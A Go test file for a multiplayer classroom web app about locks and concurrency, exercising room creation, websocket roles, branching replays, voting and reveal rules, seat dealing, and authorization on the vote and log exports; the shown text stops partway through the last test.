package class_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"relock/engine/course"
	"relock/engine/racetest"
	"relock/engine/scenario"
	"relock/web/board"
	"relock/web/film"
	"relock/web/link"
	"relock/web/page"
	"relock/web/shell"
	"relock/web/webtest"
	"relock/web/words"
)

// By the time a member has an answer, they have seen the outcome of the command.
func TestWhatACommandCameToIsShownBeforeItsAnswer(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret, "rows": true})
	phone := s.Visit(t, code, "en", nil).Join("player", nil)
	phone.Must(webtest.Object{"do": "claim", "thread": "A"})
	for n := range 6 {
		host.Must(webtest.Object{"do": "step"})
		if film := host.Film.Branches[0]; host.Room.At != n+1 || len(film.Positions) != n+2 {
			t.Errorf("after %d steps the host is shown %d, and has %d positions", n+1, host.Room.At, len(film.Positions))
		}
	}
	host.Must(webtest.Object{"do": "go", "branch": 0, "at": 0})
	if host.Room.At != 0 {
		t.Errorf("after going back it is shown %d", host.Room.At)
	}
	phone.Must(webtest.Object{"do": "step", "thread": "A"})
	if phone.Room.At != 1 {
		t.Errorf("after a step the player is shown %d", phone.Room.At)
	}
	host.Must(webtest.Object{"do": "time", "to": "by", "by": "3ms"})
	host.Must(webtest.Object{"do": "drop", "branch": 1})
	if _, there := host.Film.Branches[1]; there || host.Room.Branch != 0 {
		t.Errorf("after the branch was dropped it is there: %t; all are on %d", there, host.Room.Branch)
	}
}

// A host runs to something, cuts and compares; who is no host does not, and who
// has no film is not asked to make one.
func TestAHostRunsCutsAndCompares(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret, "rows": true})
	phone := s.Visit(t, code, "zh-CN", nil).Join("player", nil)
	stage := s.Visit(t, code, "en", nil).Join("stage", webtest.Object{"rows": true})
	host.Must(webtest.Object{"do": "run", "to": "end"})
	host.Until("the run to end", func() bool { return host.Room.Going == nil && host.Room.Over })
	if n := len(host.Film.Branches[0].Positions); host.Room.At != n-1 || host.Room.Length != n-1 || n < 9 {
		t.Errorf("it stands at %d of %d, with %d positions", host.Room.At, host.Room.Length, n)
	}
	host.Must(webtest.Object{"do": "cut", "branch": 0, "at": 2})
	if b := host.Film.Branches[1]; b == nil || len(b.Positions) != 3 || host.Room.Branch != 1 || host.Room.At != 2 {
		t.Errorf("the branch that was cut is %+v; all stand at %d@%d", b, host.Room.Branch, host.Room.At)
	}
	stage.Until("the stage is there", func() bool { return stage.Room.Branch == 1 && stage.Room.At == 2 })
	if b := stage.Film.Branches[1]; b == nil || len(b.Positions) != 3 {
		t.Errorf("the stage has of it %+v", b)
	}
	if f := host.Must(webtest.Object{"do": "compare", "branch": 0, "with": 1, "names": []string{"main", "cut"}}); !strings.Contains(f.Compared, "main and cut") {
		t.Errorf("compared: %.200s", f.Compared)
	}
	if f := stage.Must(webtest.Object{"do": "trace", "branch": 1}); !strings.HasPrefix(f.Trace, "{") || strings.Count(f.Trace, "\n") < 3 {
		t.Errorf("the trace: %.200s", f.Trace)
	}
	if f := host.Must(webtest.Object{"do": "locks", "branch": 0, "protocols": []string{"reentrant", "fenced"}}); !strings.Contains(f.Compared, "fenced") {
		t.Errorf("on two locks: %.200s", f.Compared)
	}
	for _, c := range []struct {
		who     *webtest.Attendee
		command webtest.Object
		want    string
	}{
		{phone, webtest.Object{"do": "compare", "branch": 0, "with": 1}, "rows: true"},
		{phone, webtest.Object{"do": "run", "to": "end"}, "主持人"},
		{phone, webtest.Object{"do": "cut", "branch": 0, "at": 1}, "主持人"},
		{stage, webtest.Object{"do": "locks", "branch": 0, "protocols": []string{"reentrant", "fenced"}}, "host"},
		{host, webtest.Object{"do": "compare", "branch": 0, "with": 7}, "no such branch"},
		{host, webtest.Object{"do": "locks", "branch": 0, "protocols": []string{"reentrant"}}, "2 to 4"},
		{host, webtest.Object{"do": "run", "to": "nowhere"}, "nowhere"},
	} {
		if f := c.who.Ask(c.command); f.Done || !strings.Contains(f.Refused, c.want) {
			t.Errorf("%v: done %t, refused %q", c.command, f.Done, f.Refused)
		}
	}
}

func TestARoomByItsContract(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	stage := s.Visit(t, code, "zh-CN", nil).Join("stage", webtest.Object{"rows": true})
	a := s.Visit(t, code, "en", nil).Join("player", webtest.Object{"rows": true})
	b := s.Visit(t, code, "zh-CN", nil).Join("audience", nil)
	host.Until("four are here, and two of them are asked", func() bool { return host.Room.Members == 2 && len(host.Room.People) == 4 })
	a.Must(webtest.Object{"do": "claim", "thread": "A"})
	a.Until("A has a player", func() bool { return len(a.Room.Threads["A"].By) == 1 })
	if next := a.Room.Threads["A"]; next.Next == "" || next.Why != "" {
		t.Errorf("what A would do: %+v", next)
	}
	a.Must(webtest.Object{"do": "step", "thread": "A"})
	stage.Until("the stage follows", func() bool { return stage.Room.At == 1 })
	if !strings.HasPrefix(a.Room.Says, "A. lock: acquired") || a.Room.Why != "A has the lock: hold count 1, and a lease of 200 ms." {
		t.Errorf("of the row is said %q, because %q", a.Room.Says, a.Room.Why)
	}
	if rows := stage.Film.Branches[0].Rows; len(rows) == 0 || len(stage.Film.Branches[0].Positions) != 2 {
		t.Errorf("the stage has %d rows", len(rows))
	}
	if f := stage.Must(webtest.Object{"do": "lanes", "branch": 0, "row": 1}); !strings.Contains(f.Lanes, "<svg") {
		t.Errorf("lanes: %q", f.Lanes)
	}
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	b.Until("it is asked", func() bool { return b.Room.Question != nil })
	q := b.Room.Question
	if len(q.Options) < 3 || q.Closed || q.Counts != nil || q.Right != nil {
		t.Fatalf("asked: %+v", q)
	}
	if f := a.Ask(webtest.Object{"do": "step", "thread": "A"}); !strings.HasPrefix(f.Refused, "A question is open: the run goes on after it") {
		t.Errorf("a player goes on while a question is open: done %t, refused %q", f.Done, f.Refused)
	}
	b.Must(webtest.Object{"do": "vote", "option": 0})
	a.Must(webtest.Object{"do": "vote", "option": 1})
	host.Until("both have voted", func() bool {
		return host.Room.Question != nil && host.Room.Question.Votes == 2 && host.Room.Question.Of == 2
	})
	if host.Room.Question.Counts != nil || host.Room.Question.Right != nil {
		t.Error("the host sees votes that are hidden")
	}
	host.Must(webtest.Object{"do": "reveal"})
	b.Until("it is revealed", func() bool { return b.Room.Question != nil && b.Room.Question.Closed })
	if q := b.Room.Question; q.Talk != (q.Right != nil) { // half of them were right, or nobody
		t.Errorf("are they to talk first: %t; right is %v", q.Talk, q.Right)
	}
	if q := b.Room.Question; q.Counts[0] != 1 || q.Counts[1] != 1 {
		t.Errorf("revealed: %+v", q)
	}
	host.Must(webtest.Object{"do": "tell"})
	b.Until("it is told", func() bool { return b.Room.Question != nil && b.Room.Question.Right != nil })
	host.Must(webtest.Object{"do": "again"})
	a.Must(webtest.Object{"do": "vote", "option": *b.Room.Question.Right})
	host.Must(webtest.Object{"do": "reveal"})
	b.Until("both rounds are there", func() bool { return b.Room.Question != nil && b.Room.Question.Closed && b.Room.Question.Before != nil })
	host.Must(webtest.Object{"do": "step"})
	host.Must(webtest.Object{"do": "go", "branch": 0, "at": 0})
	stage.Until("the stage is back", func() bool { return stage.Room.At == 0 && stage.Room.Length == 2 })

	// A latecomer has everything at once.
	late := s.Visit(t, code, "en", nil).Join("audience", webtest.Object{"rows": true})
	late.Until("the state is there", func() bool { return late.Room.Length == 2 })
	if n := len(late.Film.Branches[0].Positions); n != 3 {
		t.Errorf("who comes late has %d positions, want 3", n)
	}

	res, body := s.Do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
	if lines := strings.Count(body, "\n"); res.StatusCode != http.StatusOK || lines != 4 {
		t.Errorf("%d: %d lines of votes, want a head and 3: %s", res.StatusCode, lines, body)
	}
	if head, rest, _ := strings.Cut(body, "\n"); !strings.HasSuffix(head, ",votes,share,step,scenario,title") || !strings.HasSuffix(strings.TrimSpace(rest), ",true,1,100%,T1,1,The lease ends before the work") {
		t.Errorf("votes: %s", body)
	}
	res, body = s.Do(t, "GET", "/room/"+code+"/log", nil, "Authorization", "Bearer "+secret)
	if res.StatusCode != http.StatusOK || strings.Contains(body, `"proof":"`+"0") || !strings.Contains(body, `"vote"`) {
		t.Errorf("%d: %s", res.StatusCode, body)
	}
	if res, _ = s.Do(t, "GET", "/room/"+code+"/votes.csv", nil); res.StatusCode != http.StatusForbidden {
		t.Errorf("anybody can have the votes: %d", res.StatusCode)
	}
	if res, body = s.Do(t, "GET", "/room/"+code+"/branches", nil); res.StatusCode != http.StatusOK || !strings.Contains(body, "/play#v1.z.") {
		t.Errorf("%d: %s", res.StatusCode, body)
	}

	host.Must(webtest.Object{"do": "remove", "member": b.Member})
	if got := b.Closed(); got != 4041 {
		t.Errorf("removed: closed with %d", got)
	}
	host.Must(webtest.Object{"do": "end"})
	for home := false; !home; { // the last frame
		_, text, err := a.Conn.ReadMessage()
		if err != nil {
			t.Fatal("closed without the links: ", err)
		}
		home = strings.Contains(string(text), `"link":"/play#v1.z.`)
	}
	if got := a.Closed(); got != 4042 {
		t.Errorf("ended: closed with %d", got)
	}
}

// A host takes the class in hand, and lets it play again.
func TestAHeldClassWatchesAndVotes(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	a := s.Visit(t, code, "zh-CN", nil).Join("player", nil)
	a.Must(webtest.Object{"do": "claim", "thread": "A"})
	host.Must(webtest.Object{"do": "hold", "on": true})
	a.Until("the class is held", func() bool { return a.Room.Held })
	for _, command := range []webtest.Object{
		{"do": "claim", "thread": "B"},
		{"do": "step", "thread": "A"},
		{"do": "step", "thread": "A", "background": true},
		{"do": "strike", "fault": webtest.Object{"do": "pause", "thread": "A", "for": "300ms"}},
	} {
		if f := a.Ask(command); f.Done || !strings.HasPrefix(f.Refused, "现在由主持人操作") {
			t.Errorf("%v while the class is held: %+v", command, f)
		}
	}
	host.Must(webtest.Object{"do": "step"})
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	a.Must(webtest.Object{"do": "vote", "option": 0})
	if f := a.Ask(webtest.Object{"do": "hold", "on": false}); f.Done {
		t.Error("a player lets the class go")
	}
	host.Must(webtest.Object{"do": "close"})
	host.Must(webtest.Object{"do": "hold", "on": false})
	a.Until("the class plays", func() bool { return !a.Room.Held })
	a.Must(webtest.Object{"do": "claim", "thread": "B"})
}

// If few were right, nobody sees the answer until a host shows it; and a first vote can
// be for hosts alone.
func TestWhatAVoteGivesAway(t *testing.T) {
	racetest.Skip(t)
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	stage := s.Visit(t, code, "en", nil).Join("stage", nil)
	var all []*webtest.Attendee
	for range 20 {
		all = append(all, s.Visit(t, code, "en", nil).Join("audience", nil))
	}
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	host.Must(webtest.Object{"do": "reveal"})
	if host.Room.Question.Right == nil {
		t.Fatal("nobody has voted, and what is right is hidden")
	}
	right := *host.Room.Question.Right
	wrong := 0
	if right == 0 {
		wrong = 1
	}
	follow := func() {
		stage.Until("it has heard what the host has", func() bool { return stage.Seq >= host.Seq })
	}
	vote := func(rights int) {
		for n, one := range all {
			option := wrong
			if n < rights {
				option = right
			}
			one.Must(webtest.Object{"do": "vote", "option": option})
		}
		host.Must(webtest.Object{"do": "reveal"})
		follow()
	}
	for _, rights := range []int{0, 6, 15, 7} {
		host.Must(webtest.Object{"do": "ask", "kind": "predict"})
		vote(rights)
		for who, q := range map[string]*webtest.RoomQuestion{"the stage": stage.Room.Question, "the host": host.Room.Question} {
			if (q.Right != nil) != (rights >= 7) || len(q.Counts) < 3 || q.Counts[right] != rights {
				t.Errorf("%d of 20 were right, and %s has %+v", rights, who, q)
			}
			advice := map[int]string{0: "Nobody was right: look at it together first", 6: "Few were right: look at it together first"}[rights]
			if advice != "" && q.Advice != advice {
				t.Errorf("%d of 20 were right, and %s is told %q", rights, who, q.Advice)
			}
		}
	}
	host.Must(webtest.Object{"do": "again"})
	vote(6)
	if q := stage.Room.Question; q.Right != nil || q.Before == nil {
		t.Errorf("few were right in the second vote: %+v", q)
	}
	host.Must(webtest.Object{"do": "tell"})
	stage.Until("it is told", func() bool { return stage.Room.Question.Right != nil && *stage.Room.Question.Right == right })

	// For hosts alone, until the second vote.
	host.Must(webtest.Object{"do": "veil"})
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	vote(12)
	if q := host.Room.Question; q.Counts == nil || !q.Talk || !q.Veiled {
		t.Errorf("the host has %+v", q)
	}
	if q := stage.Room.Question; q.Counts != nil || q.Right != nil || !q.Veiled || q.Talk || !strings.Contains(q.Advice, "host") {
		t.Errorf("the stage has %+v", q)
	}
	host.Must(webtest.Object{"do": "again"})
	follow()
	if stage.Room.Question.Before != nil || host.Room.Question.Before == nil {
		t.Error("the first vote is seen in the second")
	}
	vote(20)
	if q := stage.Room.Question; q.Counts == nil || q.Before == nil || q.Right == nil {
		t.Errorf("after the second vote the stage has %+v", q)
	}
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	vote(2)
	host.Must(webtest.Object{"do": "tell"})
	stage.Until("all is shown", func() bool { return stage.Room.Question.Counts != nil && stage.Room.Question.Right != nil })
}

// An item's own question is asked at its place, in the room's languages.
func TestAnItemAsksTheClass(t *testing.T) {
	racetest.Skip(t)
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	stage := s.Visit(t, code, "zh-CN", nil).Join("stage", webtest.Object{"rows": true})
	a := s.Visit(t, code, "en", nil).Join("player", nil)
	a.Must(webtest.Object{"do": "claim", "thread": "A"})
	built, err := course.BuiltIn(words.All())
	if err != nil {
		t.Fatal(err)
	}
	asked := map[course.Kind]int{}
	was, known := "", 0
	for _, item := range built.Items() {
		if asked[item.Kind] > 1 && item.Kind != course.Mend && item.Lab() == nil || item.Kind == course.ReviewCode || item.Kind == course.Diagnose {
			continue // TestWhoIsAskedAnItemReadsIt asks the last two
		}
		f := host.Ask(webtest.Object{"do": "ask", "item": item.Path()})
		made, err := item.Made()
		if err != nil {
			t.Fatal(err)
		}
		prose, err := item.Prose(words.English)
		if err != nil {
			t.Fatal(err)
		}
		right, rights := "", 0
		for _, answer := range made.Answers {
			if answer.Right && answer.Option != nil {
				right = page.Plain(prose.Labels[answer.Option.ID])
			} else if answer.Right {
				right = shell.Said(words.English, answer.Says)
			}
			if answer.Right {
				rights++
			}
		}
		switch {
		case item.Lab() != nil:
			if f.Refused == "" {
				t.Errorf("%s is asked, and no room can step what a lab recorded", item.Path())
			}
			continue
		case item.Kind == course.Read || item.Kind == course.Break || item.Kind == course.Arrange || item.Kind == course.Write:
			if f.Refused == "" {
				t.Errorf("%s, of the kind %s, is asked", item.Path(), item.Kind)
			}
			continue
		case f.Refused != "":
			t.Errorf("%s is refused: %s", item.Path(), f.Refused)
			continue
		}
		asked[item.Kind]++
		stage.Until("it is asked", func() bool { return stage.Seq >= host.Seq })
		q := stage.Room.Question
		if q == nil || q.Text == was || len(q.Options) != len(made.Answers)-rights+1 || strings.ContainsAny(q.Text, "<*`") || slices.Contains(q.Options, "") || q.Right != nil {
			t.Errorf("%s asks %+v", item.Path(), q)
			continue
		}
		was = q.Text
		a.Until("it is asked", func() bool { return a.Seq >= host.Seq })
		for who, one := range map[string]*webtest.Attendee{"a phone": a, "the stage": stage} {
			tells := one.Room.Why + one.Room.Broken + one.Room.Stage.Card.Odd
			for _, b := range one.Room.Stage.Beliefs {
				tells += string(b.State) + b.Says + b.Does + b.Odd + string(b.Cord) + b.Tie + b.Need
				if b.Paused || b.Wrong || len(b.Calls) > 0 {
					tells += " belief"
				}
			}
			if !one.Room.Stage.Covered || len(one.Room.Stage.Beliefs) != len(one.Room.Threads) || one.Room.Stage.Card.Says == "" {
				t.Errorf("while %s is open, %s has the stage %+v", item.Path(), who, one.Room.Stage)
			}
			for _, seat := range one.Room.Threads {
				tells += seat.Next + seat.Why + seat.Armed + seat.Knows
				if seat.Watchdog || seat.Belief != -1 {
					tells += " belief"
				}
			}
			if tells != "" {
				t.Errorf("while %s is open, %s is told %q", item.Path(), who, tells)
			}
		}
		known += len(host.Room.Threads["A"].Next + host.Room.Threads["A"].Knows)
		run, events, row := made.Run, made.Stand, 0
		if item.Kind == course.Mend {
			run, events = made.Solved, len(made.Solved.Events)
		}
		if events > 0 {
			row = run.Events[events-1].Step
		}
		if b := stage.Film.Branches[stage.Room.Branch]; b.Positions[stage.Room.At].Row != row {
			t.Errorf("%s stands at row %d, want %d", item.Path(), b.Positions[stage.Room.At].Row, row)
		}
		a.Must(webtest.Object{"do": "vote", "option": slices.Index(host.Room.Question.Options, right)})
		host.Must(webtest.Object{"do": "reveal"})
		if q := host.Room.Question; q.Right == nil || q.Options[*q.Right] != right {
			t.Errorf("of %s is right: %v, want %q", item.Path(), q.Right, right)
		}
		host.Must(webtest.Object{"do": "close"})
	}
	if known == 0 {
		t.Error("the host is not told what A would do")
	}
	a.Until("the question is closed", func() bool { return a.Seq >= host.Seq })
	if next := a.Room.Threads["A"].Next + a.Room.Threads["A"].Knows; next == "" {
		t.Error("the phone is told nothing once the question is closed")
	}
	if at := a.Room.Stage; at.Covered || slices.ContainsFunc(at.Beliefs, func(b film.Belief) bool { return b.Says == "" }) {
		t.Errorf("once the question is closed the phone's stage is %+v", at)
	}
	if asked[course.Predict] < 2 || asked[course.Why] < 1 || asked[course.Mend] < 1 {
		t.Errorf("asked: %v", asked)
	}
	scene := host.Room.Scene
	host.Must(webtest.Object{"do": "ask", "item": "lease/who-knows"})
	host.Must(webtest.Object{"do": "go", "branch": host.Room.Branch, "at": 0})
	host.Must(webtest.Object{"do": "ask", "item": "lease/who-knows", "kind": "predict"})
	if host.Room.Scene > scene+1 || host.Room.At == 0 || len(host.Room.Threads["A"].By) != 1 {
		t.Errorf("asked again, the class is at %d in scene %d", host.Room.At, host.Room.Scene)
	}
	for _, item := range []string{"nowhere", "lease/nowhere", "lease"} {
		if f := host.Ask(webtest.Object{"do": "ask", "item": item}); f.Refused == "" {
			t.Errorf("%q is asked", item)
		}
	}
}

// A host deals everybody out: the seats stay in the next scenario, and each phone
// knows what it wishes for.
func TestEverybodyIsDealtASeat(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	var all []*webtest.Attendee
	for range 5 {
		all = append(all, s.Visit(t, code, "en", nil).Join("player", nil))
	}
	_ = s.Visit(t, code, "en", nil).Join("audience", nil)
	host.Must(webtest.Object{"do": "hold"})
	host.Must(webtest.Object{"do": "deal"})
	seated := func(a, b int) func() bool {
		return func() bool {
			return len(host.Room.Threads["A"].Members) == a && len(host.Room.Threads["B"].Members) == b
		}
	}
	host.Until("five are at two threads", seated(3, 2))
	host.Must(webtest.Object{"do": "deal", "tables": 3})
	host.Until("all are at one", seated(5, 0))
	host.Must(webtest.Object{"do": "hold", "on": false})
	all[0].Must(webtest.Object{"do": "step", "thread": "A"})
	all[1].Must(webtest.Object{"do": "step", "thread": "A"})
	all[1].Until("a wish is known", func() bool { return all[1].Room.Threads["A"].Wished[all[1].Member] == "step" })
	all[2].Must(webtest.Object{"do": "step", "thread": "A"}) // most of them
	host.Until("what is decided does not wait", func() bool { return host.Room.At == 1 && len(host.Room.Threads["A"].Wished) == 0 })
	host.Must(webtest.Object{"do": "open", "example": "no-lock-over-buying"})
	host.Until("the seats stay", func() bool { return host.Room.Scene == 1 && seated(5, 0)() && len(host.Room.Threads) == 3 })
	for _, tables := range []any{0, -1, 1001, "two", 1.5} {
		if f := host.Ask(webtest.Object{"do": "deal", "tables": tables}); f.Refused == "" {
			t.Errorf("%v at least are dealt", tables)
		}
	}
}

func TestAClassGoesOnToAnotherScenario(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	stage := s.Visit(t, code, "zh-CN", nil).Join("stage", webtest.Object{"rows": true})
	phone := s.Visit(t, code, "zh-CN", nil).Join("player", webtest.Object{"scene": 0})
	bot := s.Visit(t, code, "en", nil).Join("player", nil)
	phone.Must(webtest.Object{"do": "claim", "thread": "A"})
	host.Must(webtest.Object{"do": "step"})
	host.Must(webtest.Object{"do": "ask", "kind": "predict"})
	phone.Must(webtest.Object{"do": "vote", "option": 0})
	stage.Until("there is a row", func() bool { return stage.Room.At == 1 && stage.Film.Branches[0] != nil })
	was := stage.Film.Opened

	// A link with moves, in the middle.
	_, made := s.Do(t, "GET", "/room/"+code+"/branches", nil)
	var list []struct {
		Branch, Number, Scene int
		Title, Link           string
	}
	if err := json.Unmarshal([]byte(made), &list); err != nil || len(list) != 1 {
		t.Fatal(err, made)
	}
	host.Must(webtest.Object{"do": "open", "example": "no-lock-over-buying"})
	for _, one := range []*webtest.Attendee{stage, phone, bot, host} {
		one.Until("it is in the next scenario", func() bool { return one.Room.Scene == 1 })
		if one.Room.Branch != 1 || one.Room.At != 0 || one.Room.Question != nil || len(one.Room.Threads["A"].By) != 1 || len(one.Room.Threads["B"].By) != 0 || len(one.Room.Threads) != 3 {
			t.Errorf("it goes on to %+v", one.Room)
		}
	}
	for key, part := range map[string]string{"cast": `data-cast="C"`, "lanes": "<svg", "head": "线程 C", "stage": `data-who="2"`, "rail": `aria-label="线程 C"`} {
		if html, _ := stage.Film.Opened[key].(string); !strings.Contains(html, part) {
			t.Errorf("the stage has as %s: %s", key, html)
		}
	}
	if o := stage.Film.Opened; o["title"] == was["title"] || o["scene"] != 1.0 || o["first"] != 1.0 {
		t.Errorf("the stage has %v, scene %v, first %v", o["title"], o["scene"], o["first"])
	}
	if b := stage.Film.Branches[1]; len(stage.Film.Branches) != 1 || b == nil || len(b.Positions) == 0 || len(b.Positions[0].Options) == 0 {
		t.Errorf("the stage has branches %+v", stage.Film.Branches)
	}
	if set := string(phone.Set); !strings.Contains(set, `data-mine=\"C\"`) || !strings.Contains(set, "扮演") || !strings.Contains(set, `"scene":1`) {
		t.Errorf("the phone's page gets %s", set)
	}
	if bot.Set != nil {
		t.Errorf("who has no page gets %s", bot.Set)
	}
	late := s.Visit(t, code, "en", nil).Join("audience", webtest.Object{"rows": true, "scene": 1})
	late.Until("the state is there", func() bool { return late.Room.Scene == 1 })
	if len(late.Film.Branches) != 1 || late.Film.Branches[1] == nil || late.Set != nil {
		t.Errorf("who comes late has %+v and %s", late.Film.Branches, late.Set)
	}
	host.Must(webtest.Object{"do": "step"})
	stage.Until("it follows there", func() bool { return stage.Room.At == 1 && len(stage.Film.Branches[1].Rows) > 0 })

	// A link, with its moves, and an item of the course.
	link := strings.TrimPrefix(list[0].Link, "/play#")
	host.Must(webtest.Object{"do": "open", "link": link})
	stage.Until("it is where the link says", func() bool { return stage.Room.Scene == 2 && stage.Room.Branch == 2 && stage.Room.At == 1 })
	for what, link := range map[string]string{"that is broken": link[:len(link)-9] + "~0", "whose moves cannot be made": impossible(t)} {
		if f := host.Ask(webtest.Object{"do": "open", "link": link}); f.Refused == "" {
			t.Errorf("a link %s is opened", what)
		}
	}
	host.Must(webtest.Object{"do": "open", "item": "again/inner-unlock"})

	_, made = s.Do(t, "GET", "/room/"+code+"/branches?lang=zh-CN", nil)
	if err := json.Unmarshal([]byte(made), &list); err != nil || len(list) != 4 {
		t.Fatal(err, made)
	}
	for n, b := range list {
		if b.Scene != n || b.Number != 0 || b.Branch != n || (b.Title == list[0].Title) != (n == 0 || n == 2) {
			t.Errorf("branch %d is %+v", n, b)
		}
	}
	_, votes := s.Do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
	if !strings.HasSuffix(strings.TrimSpace(votes), ",1,The lease ends before the work") {
		t.Errorf("votes: %s", votes)
	}
	host.Must(webtest.Object{"do": "end"})
	for { // the last frame
		_, text, err := bot.Conn.ReadMessage()
		if err != nil {
			t.Fatal("closed without the links: ", err)
		}
		if n := strings.Count(string(text), `"link":"/play#v1.z.`); n > 0 {
			if n != 4 {
				t.Errorf("%d links are taken home, want 4", n)
			}
			break
		}
	}
}

func TestCommandsThatARoomRefuses(t *testing.T) {
	s := webtest.Open(t, nil)
	code, _ := s.MakeRoom(t, url.Values{"example": {"two-threads"}})
	v := s.Visit(t, code, "zh-CN", nil)
	for name, c := range map[string]webtest.Object{
		"before joining":   {"do": "step"},
		"no such command":  {"do": "fly"},
		"no such key":      {"do": "step", "speed": 9},
		"not of that type": {"do": "vote", "option": "first"},
	} {
		if f := v.Ask(c); f.Refused == "" || f.Done {
			t.Errorf("%s: %+v", name, f)
		}
	}
	v.Join("audience", nil)
	for name, c := range map[string]webtest.Object{
		"no host":      {"do": "go", "branch": 0, "at": 0},
		"no player":    {"do": "claim", "thread": "A"},
		"not asked":    {"do": "vote", "option": 0},
		"joined":       {"do": "join", "part": "audience"},
		"guessed host": {"do": "give", "thread": "A", "member": v.Member},
	} {
		if f := v.Ask(c); f.Refused == "" || !strings.ContainsFunc(f.Refused, func(r rune) bool { return r > 0x2e80 }) {
			t.Errorf("%s: %q, want a sentence in Chinese", name, f.Refused)
		}
	}
}

func TestWhoComesBackToARoom(t *testing.T) {
	s := webtest.Open(t, nil)
	code, _ := s.MakeRoom(t, url.Values{"example": {"two-threads"}})
	first := s.Visit(t, code, "en", nil).Join("player", nil)
	second := s.Visit(t, code, "en", nil).Join("player", webtest.Object{"member": first.Member, "token": first.Token})
	if second.Member != first.Member {
		t.Errorf("came back as %s, was %s", second.Member, first.Member)
	}
	if got := first.Closed(); got != 4043 {
		t.Errorf("the other tab: closed with %d", got)
	}
}

// impossible is a link with moves that nobody could have made.
func impossible(t *testing.T) string {
	t.Helper()
	sc, err := scenario.Parse([]byte(`{"threads":[{"name":"A"},{"name":"B"}],"schedule":[0,7,7]}`))
	if err != nil {
		t.Fatal(err)
	}
	text, err := link.Encode(link.Contents{Scenario: sc, At: 3})
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func TestWhatNoRoomIsMadeOf(t *testing.T) {
	racetest.Skip(t)
	s := webtest.Open(t, nil)
	for name, form := range map[string]url.Values{
		"nothing":       {},
		"no example":    {"example": {"nowhere"}},
		"a broken link": {"link": {"v1.z.!!~0"}},
		"no item":       {"item": {"lease/nowhere"}},
		"no such moves": {"link": {impossible(t)}},
	} {
		if res, _ := s.Do(t, "POST", "/rooms", form); res.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", name, res.StatusCode)
		}
	}
	res, _ := s.Do(t, "POST", "/rooms", url.Values{"example": {"two-threads"}})
	if at := res.Header.Get("Location"); res.StatusCode != http.StatusSeeOther || !strings.HasSuffix(at, "/host") || len(res.Cookies()) == 0 || !res.Cookies()[0].HttpOnly {
		t.Errorf("a browser is led to %q: %d, cookies %v", at, res.StatusCode, res.Cookies())
	}
}

// A title that a link brings along is no formula in the host's spreadsheet.
// Hosts see how many are lost, and nobody sees who: not in the log either.
func TestWhoIsLostIsNobodyInParticular(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.Visit(t, code, "en", nil).Join("host", webtest.Object{"secret": secret})
	a, b := s.Visit(t, code, "en", nil).Join("player", nil), s.Visit(t, code, "en", nil).Join("audience", nil)
	a.Must(webtest.Object{"do": "lost"})
	b.Must(webtest.Object{"do": "lost", "on": true})
	lost := func(n int) func() bool { return func() bool { return host.Room.Lost != nil && *host.Room.Lost == n } }
	host.Until("two are lost", lost(2))
	again := s.Visit(t, code, "en", nil)
	if f := again.Must(webtest.Object{"do": "join", "part": "player", "member": a.Member, "token": a.Token}); !f.Lost {
		t.Error("who comes back has forgotten that he is lost")
	}
	b.Must(webtest.Object{"do": "lost", "on": false})
	host.Until("one is lost", lost(1))
	if b.Room.Lost != nil {
		t.Error("everybody sees how many are lost")
	}
	if _, body := s.Do(t, "GET", "/room/"+code+"/log", nil, "Authorization", "Bearer "+secret); strings.Contains(body, `"lost":true`) {
		t.Error("the log says who is lost")
	}
	host.Must(webtest.Object{"do": "lobby"})
	again.Until("the stages show how one joins", func() bool { return again.Room.Lobby })
}

// A link to a room has a preview, and other pages frame its stage, which leads
// nobody.
func TestARoomElsewhere(t *testing.T) {
	s := webtest.Open(t, nil)
	code, secret := s.MakeRoom(t, url.Values{"example": {"lease-expiry"}})
	for path, title := range map[string]string{"/room": "Join a room", "/room/" + code: "Join the class: The lease ends before the work · " + code} {
		_, body := s.Do(t, "GET", path, nil)
		if !strings.Contains(body, `property="og:title" content="`+title+`"`) || !strings.Contains(body, `og:description" content="A class around one lock`) || strings.Contains(body, "oembed") {
			t.Errorf("%s has no preview", path)
		}
	}
	res, body := s.Do(t, "GET", "/embed/room/"+code+"/stage", nil, "Cookie", "relock-room-"+code+"="+secret)
